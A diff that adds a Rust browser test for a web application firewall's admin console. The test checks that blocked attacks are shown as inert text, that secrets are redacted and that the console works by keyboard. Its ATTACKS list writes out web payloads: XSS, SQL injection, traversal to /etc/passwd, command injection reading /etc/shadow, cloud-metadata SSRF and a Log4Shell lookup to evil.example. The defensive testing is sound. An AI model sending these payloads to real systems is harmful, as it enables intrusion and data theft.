@@ -1,0 +1,321 @@
+//! The console in a real browser: it shows attacks as text, lives, and is used by keyboard.
+//!
+//! `PORTCULLIS_BLESS=1` takes the pictures of the guide anew.
+
+#![cfg(all(feature = "server", unix))]
+
+mod support;
+
+use serde_json::json;
+use std::fs;
+use std::io::{BufRead, BufReader};
+use std::net::SocketAddr;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+use support::authority::has;
+use support::browser::Browser;
+use support::client::exchange;
+use support::origin::Origin;
+
+struct Running {
+    _directory: tempfile::TempDir,
+    process: Child,
+    proxy: SocketAddr,
+    console: String,
+    _origin: Origin,
+}
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let _ = self.process.kill();
+        let _ = self.process.wait();
+    }
+}
+
+const TOKEN: &str = "a-token-of-many-letters";
+
+fn start(admin: &str) -> Running {
+    let origin = Origin::echo();
+    let url = origin.url();
+    let directory = tempfile::tempdir().expect("a directory");
+    let text = format!(
+        "listeners: ['127.0.0.1:0']
+admin: {admin}
+audit: {{log: 'off'}}
+reload: {{watch: false}}
+trusted_proxies: [127.0.0.1]
+sites:
+  - {{name: shop, hosts: [shop.test], upstreams: '{url}', rules: ['@portcullis-core'], patches: ['*']}}
+  - {{name: wiki, hosts: [wiki.test], upstreams: '{url}', rules: ['@portcullis-core'], mode: DetectionOnly}}
+"
+    );
+    fs::write(directory.path().join("portcullis.yaml"), text).expect("written");
+    let mut process = Command::new(env!("CARGO_BIN_EXE_portcullis"))
+        .args(["run", "-c"])
+        .arg(directory.path().join("portcullis.yaml"))
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("started");
+    let mut lines = BufReader::new(process.stderr.take().expect("piped")).lines().map_while(Result::ok);
+    let mut after = |prefix: &str| {
+        lines.by_ref().find_map(|line| line.strip_prefix(prefix).map(str::to_owned)).expect("it is told")
+    };
+    let proxy = after("listening on ").parse().expect("an address");
+    let console = format!("http://{}/", after("admin on http://"));
+    std::thread::spawn(move || lines.for_each(drop));
+    Running { _directory: directory, process, proxy, console, _origin: origin }
+}
+
+impl Running {
+    fn get(&self, host: &str, client: &str, target: &str) -> u16 {
+        let head = format!(
+            "Host: {host}\r\nX-Forwarded-For: {client}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0)\r\n\
+             Accept: */*\r\nCookie: session=0123456789abcdef\r\nConnection: close"
+        );
+        exchange(self.proxy, format!("GET {target} HTTP/1.1\r\n{head}\r\n\r\n")).status
+    }
+
+    /// What a shop sees on a bad day.
+    fn traffic(&self, rounds: usize) {
+        for round in 0..rounds {
+            for (n, path) in PAGES.iter().enumerate() {
+                self.get("shop.test", &format!("203.0.113.{}", n * 7 + round % 5), path);
+            }
+            for (n, attack) in ATTACKS.iter().enumerate() {
+                if n % 4 != round % 4 {
+                    continue;
+                }
+                let host = if n % 5 == 4 { "wiki.test" } else { "shop.test" };
+                self.get(host, &format!("198.51.100.{}", n % 6 + 1), attack);
+            }
+        }
+    }
+}
+
+const PAGES: [&str; 7] =
+    ["/", "/search?q=lighthouse", "/cart", "/products/17", "/static/app.js", "/api/items?page=2", "/account"];
+
+/// Each of them would be seen if it ran in the console.
+const ATTACKS: [&str; 16] = [
+    "/search?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E",
+    "/search?q=1%27%20OR%201%3D1%20--%20",
+    "/profile?name=%3Cimg%20src%3Dx%20onerror%3D%22window.pwned%3D1%22%3E",
+    "/login?user=admin%27%20UNION%20SELECT%20password%20FROM%20users--",
+    "/search?q=%22%3E%3Csvg/onload%3Dwindow.pwned%3D1%3E",
+    "/download?file=../../../../etc/passwd",
+    "/a%22onfocus=%22window.pwned=1%22autofocus=%22?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E",
+    "/ping?host=127.0.0.1%3B%20cat%20/etc/shadow",
+    "/%3C/title%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E?q=%3Cscript%3Ealert%281%29%3C/script%3E",
+    "/fetch?url=http%3A//169.254.169.254/latest/meta-data/",
+    "/?next=javascript:window.pwned%3D1//%3Cscript%3E",
+    "/index.php?page=php%3A//filter/convert.base64-encode/resource%3Dconfig",
+    "/?x=%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
+    "/?f=%E2%80%AEgpj.exe%00%FF%1B%5B31m%3Cscript%3E",
+    "/?q=%7B%7Bconstructor.constructor%28%27window.pwned%3D1%27%29%28%29%7D%7D%3Cscript%3E",
+    "/login?password=sesame-open-sesame&user=x%27%20OR%20%27a%27%3D%27a",
+];
+
+/// Where a picture goes: into the guide when it is to be renewed, elsewhere otherwise.
+fn place(name: &str) -> PathBuf {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    if std::env::var_os("PORTCULLIS_BLESS").is_some() {
+        return root.join("docs/img").join(name);
+    }
+    Path::new(env!("CARGO_TARGET_TMPDIR")).join(name)
+}
+
+const ENTER: &str = "\u{e007}";
+const ESCAPE: &str = "\u{e00c}";
+const TAB: &str = "\u{e004}";
+
+/// Nothing of the page is wider than the window.
+fn fits(browser: &Browser, what: &str) {
+    let wide = "return document.documentElement.scrollWidth - document.documentElement.clientWidth";
+    assert_eq!(browser.run(wide), json!(0), "{what}");
+}
+
+#[test]
+fn the_console_shows_attacks_as_text_lives_and_is_used_by_keyboard() {
+    if !has("chromedriver") || !has("chromium") {
+        return;
+    }
+    let server = start(&format!("{{address: '127.0.0.1:0', token: {TOKEN}}}"));
+    server.traffic(4);
+    let browser = Browser::start();
+    browser.look(1280, 900, "light");
+
+    // Signing in.
+    browser.go(&server.console);
+    browser.until("document.activeElement?.id === 'token'");
+    browser.press(&format!("not-{TOKEN}{ENTER}"));
+    browser.until("document.body.innerText.includes('That is not the token.')");
+    browser.press(&format!("{TOKEN}{ENTER}"));
+    browser.until("document.querySelector('.tile')");
+    let storage =
+        browser.run("return JSON.stringify([localStorage, sessionStorage, document.cookie])").to_string();
+    assert!(storage.contains("session-") && !storage.contains(TOKEN), "{storage}");
+    let said = browser.said();
+    assert!(said.iter().all(|line| line.contains("401")), "{said:#?}");
+
+    // It lives: what comes now is seen without asking.
+    browser.until("document.querySelector('#live').dataset.state === 'live'");
+    assert_eq!(server.get("shop.test", "192.0.2.99", "/only-now"), 200);
+    browser.until("document.querySelector('.live').innerText.includes('/only-now')");
+    assert_eq!(
+        server.get("shop.test", "192.0.2.99", "/this-one?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E"),
+        403
+    );
+    let shown = "/this-one?q=<script>window.pwned=1</script>";
+    browser.until(&format!("document.querySelector('.overview .rows').innerText.includes('{shown}')"));
+    server.traffic(20);
+    browser.until("document.querySelectorAll('.top .share').length > 8");
+    std::thread::sleep(Duration::from_millis(2_500));
+    browser.until("document.querySelectorAll('.drawing rect[class^=hue]').length > 4");
+    for (width, height) in [(1280, 1180), (400, 1180)] {
+        for theme in ["dark", "light"] {
+            browser.look(width, height, theme);
+            std::thread::sleep(Duration::from_millis(300));
+            fits(&browser, "overview");
+            browser.picture(&place(&format!("console-{width}-{theme}.png")));
+        }
+    }
+
+    // By keyboard alone.
+    browser.look(1280, 900, "dark");
+    browser.run("document.activeElement?.blur(); window.scrollTo(0, 0)");
+    browser.press("2");
+    browser.until("document.querySelectorAll('.record').length > 20");
+    fits(&browser, "transactions");
+    browser.press("j");
+    browser.until("document.activeElement.matches('.record')");
+    let outline = browser.run("return getComputedStyle(document.activeElement).outlineStyle");
+    assert_eq!(outline, json!("solid"), "the focus is seen");
+    browser.press(ENTER);
+    browser.until("document.querySelector('#sheet').open && document.querySelector('#sheet mark')");
+    browser.picture(&place("console-transaction.png"));
+    browser.press(ESCAPE);
+    browser.until("!document.querySelector('#sheet').open && location.hash === '#/transactions'");
+    browser.press("/");
+    browser.until("document.activeElement.matches('[data-filter]')");
+    browser.press(&format!("/profile{ENTER}"));
+    browser.until("document.querySelector('.chip')?.innerText.includes('/profile')");
+    browser.until(
+        "[...document.querySelectorAll('.record .uri')].every((uri) => uri.title.startsWith('/profile'))",
+    );
+    browser.run("document.querySelector('.record').click()");
+    browser.until("document.querySelector('#sheet .match')?.innerText.includes('<img src=x onerror=')");
+    browser.press(ESCAPE);
+    browser.until("!document.querySelector('#sheet').open");
+    browser.press("?");
+    browser.until("document.querySelector('#keys').open");
+    browser.press(ESCAPE);
+    browser.press("t");
+    browser.until("document.documentElement.dataset.theme === 'light'");
+    browser.press("tt");
+    browser.until("!document.documentElement.dataset.theme");
+    browser.press("p");
+    browser.until("document.querySelector('#live').innerText === 'Paused'");
+    browser.press("p");
+    browser.until("document.querySelector('#live').innerText === 'Live'");
+    browser.press("3");
+    browser.until("document.querySelectorAll('.site').length === 2");
+    fits(&browser, "posture");
+    browser.picture(&place("console-posture.png"));
+    browser.run("[...document.querySelectorAll('button')].find((b) => b.innerText === 'Reload').click()");
+    browser.until("document.querySelector('#toast').innerText === 'Nothing has changed'");
+    browser.until("document.querySelector('.posture').innerText.includes('nothing had changed')");
+    browser.press("4");
+    browser.until("document.querySelectorAll('.patch').length > 10");
+    fits(&browser, "patches");
+    browser.press("1");
+    browser.until("document.querySelector('.chart')");
+    browser.run("document.querySelector('.chart').focus()");
+    browser.press("\u{e012}");
+    browser.until("!document.querySelector('.tip').hidden && document.querySelector('.tip').innerText.includes('Requests')");
+
+    // Every attack, in the list and opened: nothing of it runs, nothing of it is an element, nothing is hidden.
+    browser.press("2");
+    browser.until("document.querySelectorAll('.record').length > 20");
+    let texts = browser.run("return document.querySelector('main').innerText").to_string();
+    for seen in
+        ["<script>window.pwned=1</script>", "<img src=x", "javascript:window.pwned=1", r"\\u{202e}gpj.exe"]
+    {
+        assert!(texts.contains(seen), "{seen}: {texts}");
+    }
+    let opened = browser.run(
+        "const ids = new Map();
+         for (const row of document.querySelectorAll('.record')) ids.set(row.querySelector('.uri').title, row.dataset.row);
+         return [...ids.values()]",
+    );
+    let opened = opened.as_array().expect("a list");
+    assert!(opened.len() >= ATTACKS.len() - 2, "{}", opened.len());
+    let mut everything = texts;
+    for id in opened {
+        let id = id.as_str().expect("an id");
+        browser.run(&format!("location.hash = '#/t/{id}'"));
+        browser.until(&format!("document.querySelector('#sheet .identity')?.innerText.includes('{id}') && document.querySelector('#sheet .rules')"));
+        everything.push_str(
+            browser.run("return document.querySelector('#sheet').textContent").as_str().expect("text"),
+        );
+    }
+    assert!(!everything.contains("sesame-open-sesame"), "secrets are redacted");
+    assert!(!everything.contains('\u{202e}') && !everything.contains('\0'));
+    let strange = "return document.querySelectorAll('main script, main img, main iframe, dialog script, dialog img, [onerror], [onload], [onfocus], a[href^=javascript]').length";
+    assert_eq!(browser.run(strange), json!(0));
+    assert_eq!(browser.run("return window.pwned ?? null"), json!(null));
+    browser.press(ESCAPE);
+
+    // Everything that can be pressed has a name, and the first of it leads past the bar.
+    let nameless = "return [...document.querySelectorAll('button, a, input, select')].filter((e) =>
+        !(e.innerText || e.getAttribute('aria-label') || e.labels?.length || e.closest('label'))).map((e) => e.outerHTML)";
+    assert_eq!(browser.run(nameless), json!([]));
+    browser.go(&format!("{}#/patches", server.console));
+    browser.until("document.querySelectorAll('.patch').length > 10");
+    browser.run("document.activeElement?.blur()");
+    browser.press(TAB);
+    browser.until("document.activeElement.matches('.skip')");
+    browser.press(ENTER);
+    browser.until("document.activeElement.id === 'main'");
+
+    assert_eq!(browser.said(), Vec::<String>::new());
+
+    // Should markup ever come in, it would not run.
+    let inline = "const s = document.createElement('script'); try { s.textContent = 'window.inline = 1' } catch {}
+        document.body.append(s); try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.inline=1>') } catch {}
+        return window.inline ?? null";
+    assert_eq!(browser.run(inline), json!(null));
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(browser.run("return window.inline ?? null"), json!(null));
+
+    // Signed out, nothing is left.
+    browser.run("document.querySelector('#leave').click()");
+    browser.until("document.querySelector('#token')");
+    assert_eq!(
+        browser.run("return sessionStorage.length + document.querySelectorAll('.tile').length"),
+        json!(0)
+    );
+}
+
+#[test]
+fn without_a_token_it_shows_and_changes_nothing() {
+    if !has("chromedriver") || !has("chromium") {
+        return;
+    }
+    let server = start("{address: '127.0.0.1:0'}");
+    let browser = Browser::start();
+    browser.look(1280, 900, "dark");
+    browser.go(&server.console);
+    browser.until("document.querySelector('.tile')");
+    browser.until("document.body.innerText.includes('Nothing has been blocked yet')");
+    browser.press("2");
+    browser.until("document.body.innerText.includes('Nothing to show yet')");
+    browser.press("3");
+    browser.until("document.body.innerText.includes('Read-only')");
+    let buttons =
+        browser.run("return [...document.querySelectorAll('button')].map((b) => b.innerText)").to_string();
+    assert!(!buttons.contains("Reload") && !buttons.contains("Sign out\\n"), "{buttons}");
+    browser.run("location.hash = '#/t/01ARZ3NDEKTSV4RRFFQ69G5FAV'");
+    browser.until("document.querySelector('#sheet')?.innerText.includes('portcullis explain 01ARZ3NDEKTSV4RRFFQ69G5FAV')");
+    assert!(browser.said().iter().all(|line| line.contains("404")));
+}
